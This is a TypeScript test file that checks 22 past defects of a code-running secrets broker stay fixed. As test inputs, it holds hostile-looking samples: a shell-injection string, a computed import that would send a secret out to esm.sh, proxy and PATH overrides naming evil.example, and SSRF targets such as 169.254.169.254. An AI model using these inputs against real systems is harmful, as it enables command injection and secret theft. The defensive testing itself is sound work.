/**
 * The defects of the first implementation of this idea, each with the tests that show that it cannot come back: those
 * named in `elsewhere`, which are checked to exist, and those below that carry its number.
 *
 *  1 secrets injected that nobody saw          12 markup in messages
 *  2 an open API that changes secrets          13 names that do not fit into a button
 *  3 shell injection where the agent is woken  14 code that the owner never sees
 *  4 anybody in the chat may approve           15 output with secrets in it
 *  5 secrets in plain text and in the log      16 one temporary file for two runs
 *  6 imports that change later                 17 columns and parameters in different order
 *  7 arguments as environment variables        18 a timeout that looks like exit 1
 *  8 secrets on a command line                 19 requests that wait for ever
 *  9 a timeout that only asks                  20 databases in the repository
 * 10 two clicks, two runs                      21 no limits, no identities, no bindings
 * 11 any URL is fetched and shown              22 an answer that nobody tells the agent
 */
import { readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Log } from '../../main/core/log.ts';
import { allText } from '../support/allText.ts';
import { type BotApi, startBotApi } from '../support/botApi.ts';
import { fakeKey, startTestBroker, type TestBroker, type TestBrokerOptions } from '../support/broker.ts';
import { canaryValue, filesBelow, sightings } from '../support/canary.ts';
import { startHttpsUpstream, startUpstream } from '../support/httpsUpstream.ts';

const root = join(import.meta.dirname, '..', '..');

/** Defect -> [file, words of a title]. */
const elsewhere: readonly (readonly [defect: number, file: string, title: string])[] = [
  [1, 'main/core/requestPlan.test.ts', 'never lets a tag add to or replace what the body says'],
  [1, 'main/core/requestPlan.test.ts', 'accepts secrets in both places if they are the same set'],
  [2, 'tests/attacks/bridge.test.ts', 'every wrong token gets the very same answer'],
  [2, 'tests/attacks/bridge.test.ts', 'there is no route that approves, configures or shows secrets'],
  [2, 'tests/integration/badInputStart.test.ts', 'ends the start with exit 78 and one line'],
  [
    3,
    'tests/integration/houseRooms.test.ts',
    'woken when its request is final, with id and outcome and never with output',
  ],
  [4, 'tests/attacks/telegram.test.ts', 'L197 not another member of the group'],
  [4, 'tests/attacks/telegram.test.ts', 'L197 not an approver from a chat that was not configured'],
  [5, 'main/vault/valueCipher.test.ts', 'looks different every time and never shows the value'],
  [5, 'tests/integration/canary.test.ts', 'is in no answer, file, log, process, message, wake or print'],
  [6, 'tests/attacks/quickjs.test.ts', 'the one module that there is can only wait for itself'],
  [7, 'main/runs/backend.contract.ts', 'gives the code the environment of the job and nothing else'],
  [8, 'tests/attacks/quickjs.test.ts', 'has nothing of ours in its environment or arguments'],
  [8, 'tests/integration/canary.test.ts', 'sees environment, arguments and memory of a process'],
  [9, 'main/runs/backend.contract.ts', 'ends code that never ends at its timeout'],
  [9, 'tests/attacks/quickjs.test.ts', 'ends when its host is gone, also while the program holds the processor'],
  [10, 'main/store/states.test.ts', 'from %s'],
  [10, 'tests/attacks/telegram.test.ts', 'L185 counts once, though it is pressed twice at once'],
  [10, 'tests/attacks/telegram.test.ts', 'L200 does nothing after its request ended'],
  [10, 'tests/attacks/lifecycle.test.ts', 'it still waits, and the button of the old message works once'],
  [10, 'tests/integration/agentSide.test.ts', 'can be approved only after it was added'],
  [11, 'main/net/fetchText.test.ts', 'refuses more than it may take, announced or not'],
  [11, 'main/net/fetchText.test.ts', 'gives up when its time is over, however the bytes trickle'],
  [11, 'main/net/fetchText.test.ts', 'gives up after three redirects'],
  [12, 'tests/attacks/telegram.test.ts', 'M214 markup as it was written, with no parse mode'],
  [12, 'tests/attacks/telegram.test.ts', 'the request stays undecided, when Telegram rejects the plain text too'],
  [13, 'tests/attacks/telegram.test.ts', 'L199 an opaque nonce of at most 64 bytes'],
  [
    14,
    'tests/attacks/telegram.test.ts',
    'M213 the whole of a longer code as a file with its hash, before there is any button',
  ],
  [15, 'tests/attacks/core-redaction.test.ts', 'an echoed secret is masked in each encoding'],
  [15, 'tests/integration/canary.test.ts', 'is masked in whatever the code prints, calls and throws'],
  [16, 'main/runs/backend.contract.ts', 'lets no run see what another left behind'],
  [17, 'main/store/requests.test.ts', 'is what insertRequest returned, field by field'],
  [17, 'main/store/states.test.ts', 'keeps its result, its traffic and its end in one place each'],
  [18, 'main/runs/outcome.test.ts', 'tells a timeout from an exit'],
  [18, 'main/runs/output.test.ts', 'keeps exactly one MiB, and does not call that truncated'],
  [19, 'tests/integration/agentSide.test.ts', 'ends a request when its time is over'],
  [19, 'tests/integration/badInput.test.ts', 'that cannot be reached holds nothing up'],
  [19, 'main/core/codeReport.test.ts', 'never throws and is a valid report, whatever the text'],
  [
    21,
    'tests/integration/agentSide.test.ts',
    'refuses more requests a minute than the setting allows, for each agent by itself',
  ],
  [21, 'tests/integration/agentSide.test.ts', 'finds no request that is not its own'],
  [21, 'tests/attacks/egress-placeholders.test.ts', 'E80 a host that is allowed but not bound'],
  [21, 'tests/attacks/manifest.test.ts', 'a rotated value keeps the trust key'],
  [21, 'contract/dataDir.test.ts', 'APPDATA on Windows'],
  [22, 'tests/integration/agentSide.test.ts', 'holds the answer until the end and marks the result as fetched'],
  [22, 'tests/integration/agentSide.test.ts', 'shows why it was denied'],
];

describe('every defect of the first implementation', () => {
  it('is shown to be gone by tests that exist', () => {
    const here = readFileSync(import.meta.filename, 'utf8');
    for (let defect = 1; defect <= 22; defect += 1) {
      const named = elsewhere.filter(([number]) => number === defect);
      expect(named.length > 0 || here.includes(`it('${defect} `), `defect ${defect}`).toBe(true);
      for (const [, file, title] of named) expect(readFileSync(join(root, file), 'utf8'), file).toContain(title);
    }
  });
});

let cleanups: (() => unknown)[] = [];
beforeEach(() => {
  cleanups = [];
});
afterEach(async () => {
  for (const clean of cleanups.reverse()) await clean();
});

async function start(options: TestBrokerOptions = {}): Promise<TestBroker> {
  const house = await startTestBroker(options);
  cleanups.push(() => house.stop());
  return house;
}

const ownerId = 42;
async function startWithTelegram(log?: Log): Promise<Readonly<{ house: TestBroker; bot: BotApi }>> {
  const bot = await startBotApi();
  cleanups.push(() => bot.close());
  const house = await start({
    env: { TELEGRAM_BOT_TOKEN: bot.token, TELEGRAM_CHAT_ID: `${ownerId}`, TELEGRAM_API_ROOT: bot.root },
    ...(log === undefined ? {} : { ports: { log } }),
  });
  return { house, bot };
}

const idOf = (body: Readonly<Record<string, unknown>>): string => String(body.request_id);

/** Approves once and answers with what the agent then gets. */
async function runOnce(house: TestBroker, wish: unknown) {
  const agent = house.agent();
  const { status, body } = await agent.execute(wish);
  expect(status).toBe(202);
  expect(await house.decide(idOf(body), 'once')).toMatchObject({ ok: true });
  return agent.result(idOf(body));
}

const stdoutOf = (answer: Readonly<Record<string, unknown>>): string => String(Object(answer.result).stdout);

describe('no defect comes back', () => {
  it('1 the code gets the secrets that stand on the card and no other, whatever body and tags say', async () => {
    const house = await start();
    for (const name of ['SHOWN_KEY', 'OTHER_KEY']) {
      house.owner.addSecret('desktop', { name, value: fakeKey(), hosts: ['api.example.com'] });
    }
    const code = '// @secrets OTHER_KEY\nconsole.log(Object.keys(process.env).sort().join())';
    const wish = { skill_id: 'x', code, secrets: ['SHOWN_KEY'], metadata: { network: ['api.example.com'] } };
    const agent = house.agent();
    const { body } = await agent.execute(wish);
    const facts = JSON.stringify(house.card(idOf(body)).facts);
    expect(facts).toContain('SHOWN_KEY');
    expect(facts).not.toContain('OTHER_KEY');
    await house.decide(idOf(body), 'once');
    expect(stdoutOf(await agent.result(idOf(body)))).toBe('SHOWN_KEY,SKILL_ARGS\n');
    expect(await agent.execute({ ...wish, metadata: { secrets: ['OTHER_KEY'] } })).toMatchObject({ status: 400 });
  });

  it('2 an agent with a valid token cannot touch secrets', async () => {
    const house = await start();
    const agent = house.agent();
    for (const [method, path] of [
      ['POST', '/secrets'],
      ['GET', '/secrets'],
      ['DELETE', '/secrets/KEY'],
    ] as const) {
      const body = method === 'POST' ? { name: 'KEY', value: fakeKey() } : undefined;
      expect(await agent.call(method, path, body)).toMatchObject({ status: 404 });
    }
    expect(house.owner.secrets()).toEqual([]);
    expect((await fetch(`${house.url}/execute`, { method: 'POST' })).status).toBe(401);
    expect(new URL(house.url).hostname).toBe('127.0.0.1');
  });

  it('3 nothing that code prints reaches a shell: there is none', async () => {
    const hook = await startUpstream(null);
    cleanups.push(() => hook.close());
    const env = { OPENCLAW_HOOK_URL: `http://127.0.0.1:${hook.port}/hooks/wake`, OPENCLAW_HOOK_TOKEN: fakeKey() };
    const house = await start({ env });
    const agent = house.agent();
    const code = 'console.error("$(touch /tmp/x) `id` \\" ; $HOME"); process.exit(3)';
    const { body } = await agent.execute({ skill_id: 'x', code });
    const woken = new Promise((resolve) =>
      hook.setAnswer((_request, response) => resolve(response.end('{"ok":true}'))),
    );
    await house.decide(idOf(body), 'once');
    await woken;
    const { text } = JSON.parse(hook.received[0]?.body.toString() ?? '{}');
    expect(text).toContain(idOf(body));
    expect(text).not.toMatch(/[$`"]|touch/);

    const sources = ['main', 'cli', 'sandbox', 'preload'].flatMap((folder) => filesBelow(join(root, folder)));
    const starters = sources.filter(
      ({ name, content }) => !name.endsWith('.test.ts') && /from '(node:)?child_process'/.test(String(content)),
    );
    expect(starters.map(({ name }) => name.slice(root.length + 1)).sort()).toEqual([
      // npm and apt-get, for images: with arguments of ours only.
      'main/backends/docker/images/program.ts',
      'main/backends/embedded/nodeChild.ts',
      // Inside a sandbox: starts the code itself.
      'sandbox/runner/job.ts',
    ]);
    for (const { content } of starters) expect(String(content)).not.toMatch(/shell|exec(File)?(Sync)?\(/);
  });

  it('5 a value that is sent as a reply is in no log line and no file, nor is a message of a stranger', async () => {
    const lines: string[] = [];
    const keep = (fields: object, message: string) => void lines.push(JSON.stringify([fields, message]));
    const { house, bot } = await startWithTelegram({ debug: keep, info: keep, warn: keep, error: keep });
    const [value, strange] = [canaryValue(), canaryValue()];
    bot.say(`a secret of somebody else: ${strange}`, 777);
    bot.say('/add_secret CANARY', ownerId);
    const question = await bot.waitFor(() =>
      bot.messages(ownerId).find(({ text }) => !text.startsWith('/') && text.includes('CANARY')),
    );
    bot.say(value, ownerId, { replyTo: question.messageId });
    await bot.waitFor(() => house.owner.secrets().length === 1);
    await bot.waitFor(() => bot.messages(ownerId).every(({ text }) => !text.includes(value)));
    expect(sightings([value, strange], filesBelow(house.dataDir))).toEqual([]);
    expect(sightings([value, strange], [{ name: 'log', content: lines.join('\n') }])).toEqual([]);
  });

  it('6 code from elsewhere is never fetched, by a computed import either', async () => {
    const upstream = await startHttpsUpstream(['esm.sh', 'deno.land']);
    cleanups.push(() => upstream.close());
    const house = await start({
      rootsPem: upstream.authorityPem,
      env: { OAUTH3_EGRESS_HOSTS: `esm.sh=127.0.0.1:${upstream.port},deno.land=127.0.0.1:${upstream.port}` },
    });
    house.owner.addSecret('desktop', { name: 'KEY', value: fakeKey(), hosts: ['esm.sh'] });
    for (const code of [
      "import x from 'https://deno.land/x/mod.ts'; console.log(x)",
      "await import('https://esm.sh/x?k=' + Deno.env.get('KEY'))",
      "await import('npm:left-pad'); await import('jsr:@std/path')",
    ]) {
      const metadata = { secrets: ['KEY'], network: ['esm.sh', 'deno.land'] };
      expect(await runOnce(house, { skill_id: 'x', code, metadata })).toMatchObject({ status: 'failed' });
    }
    expect(upstream.connections()).toBe(0);
  });

  it('7 arguments are one JSON text and never variables of their own', async () => {
    const house = await start();
    const args = { HTTP_PROXY: 'http://evil.example', DENO_AUTH_TOKENS: 'x', SKILL_ARGS: 'shadow', PATH: '/evil' };
    const code = 'console.log(JSON.stringify(process.env))';
    const { SKILL_ARGS: given, ...rest } = JSON.parse(stdoutOf(await runOnce(house, { skill_id: 'x', code, args })));
    expect(rest).toEqual({});
    expect(JSON.parse(given)).toEqual(args);
  });

  it('11 no address of this machine is fetched as source, and no page shows what was', async () => {
    let connections = 0;
    const listener = createServer((socket) => {
      connections += 1;
      socket.destroy();
    }).listen(0, '127.0.0.1');
    cleanups.push(() => listener.close());
    await new Promise((resolve) => listener.once('listening', resolve));
    const address = listener.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    const house = await start();
    const agent = house.agent();
    for (const url of [
      `http://127.0.0.1:${port}/x.ts`,
      `https://127.0.0.1:${port}/x.ts`,
      `https://localhost:${port}/x.ts`,
      `https://[::ffff:127.0.0.1]:${port}/x.ts`,
      'https://169.254.169.254/latest/meta-data/',
    ]) {
      const { status } = await agent.execute({ skill_id: 'x', skill_url: url });
      expect({ url, refused: status === 400 || status === 422 }).toEqual({ url, refused: true });
    }
    expect(connections).toBe(0);
    const fetches = await house.owner.audit({ limit: 99, kind: 'source.fetched' });
    expect(fetches.map(({ payload }) => payload)).toEqual(
      ['169.254.169.254', `[::ffff:7f00:1]:${port}`, `localhost:${port}`, `127.0.0.1:${port}`].map((host) =>
        expect.objectContaining({ host, outcome: expect.stringMatching(/^(address_refused|url_invalid)$/) }),
      ),
    );
    const { body } = await agent.execute({ skill_id: 'x', code: '1' });
    expect((await fetch(`${house.url}/view/${idOf(body)}`)).status).not.toBe(200);
  });

  it('13 a missing secret with the longest name can be added from its card', async () => {
    const { house, bot } = await startWithTelegram();
    const name = `K${'_LONG'.repeat(25)}`;
    const agent = house.agent();
    const { body } = await agent.execute({ skill_id: 'x', code: '1', secrets: [name] });
    expect(body).toMatchObject({ missing_secrets: [name] });
    const [button] = await bot.waitFor(() => {
      const all = bot.messages(ownerId).flatMap(({ buttons }) => buttons.flat());
      const found = all.filter(({ text }) => text.startsWith('🔑'));
      return found.length > 0 && found;
    });
    await bot.tap(button?.text ?? '', ownerId);
    const question = await bot.waitFor(() =>
      bot.messages(ownerId).find(({ text, buttons }) => text.includes(name) && buttons.length === 0),
    );
    bot.say(fakeKey(), ownerId, { replyTo: question.messageId });
    await bot.waitFor(() => house.owner.secrets().some((secret) => secret.name === name));
    expect(house.card(idOf(body)).missingSecrets).toEqual([]);
  });

  it('16 two runs of the same code at once do not meet', async () => {
    const house = await start();
    const wish = (n: number) => ({
      skill_id: 'same',
      code: 'await new Promise((resolve) => setTimeout(resolve, 300)); console.log(process.env.SKILL_ARGS)',
      args: { n },
    });
    const [first, second] = await Promise.all([runOnce(house, wish(1)), runOnce(house, wish(2))]);
    expect([stdoutOf(first), stdoutOf(second)]).toEqual(['{"n":1}\n', '{"n":2}\n']);
  });

  it('18 a timeout, too much output and an exit are told apart', async () => {
    const house = await start();
    const run = (code: string, timeout = 30) => runOnce(house, { skill_id: 'x', code, metadata: { timeout } });
    expect(await run('for (;;);', 1)).toMatchObject({ status: 'failed', result: { timed_out: true, exit_code: null } });
    expect(await run('process.exit(1)')).toMatchObject({
      status: 'failed',
      result: { timed_out: false, exit_code: 1 },
    });
    expect(await run("console.log('x'.repeat(2 * 1024 * 1024))")).toMatchObject({
      status: 'success',
      result: { truncated: true, timed_out: false, exit_code: 0 },
    });
  });

  it('20 no database and no log of one belongs to the repository', () => {
    const ignored = readFileSync(join(root, '.gitignore'), 'utf8').split('\n');
    expect(ignored).toEqual(expect.arrayContaining(['*.db', '*.db-wal', '*.db-shm', '.env']));
    const names = readdirSync(root, { encoding: 'utf8' });
    expect(names.filter((name) => /\.db(-wal|-shm)?$/.test(name))).toEqual([]);
  });

  it('21 an agent that is paused or revoked gets nothing, and the log of it all can be taken out', async () => {
    const house = await start();
    const agent = house.agent('laptop');
    house.owner.pauseAgent('desktop', 'laptop', true);
    expect(await agent.execute({ skill_id: 'x', code: '1' })).toMatchObject({ status: 403 });
    house.owner.revokeAgent('desktop', 'laptop');
    expect(await agent.execute({ skill_id: 'x', code: '1' })).toMatchObject({ status: 401 });
    const exported = await allText(house.owner.exportAudit('jsonl'));
    expect(exported).toMatch(/agent\.paused.*\n.*agent\.revoked/s);
  });

  it('22 the answer to a request says where its result is, and so does the README', async () => {
    const house = await start();
    const agent = house.agent();
    const { body } = await agent.execute({ skill_id: 'x', code: 'console.log(1)' });
    const [id, poll] = [idOf(body), agent.result(idOf(body))];
    await house.decide(id, 'once');
    expect(await poll).toMatchObject({
      request_id: id,
      status: 'success',
      decision: 'once',
      result: { stdout: '1\n' },
    });
    expect(readFileSync(join(root, 'README.md'), 'utf8')).toContain('/requests/');
  });
});
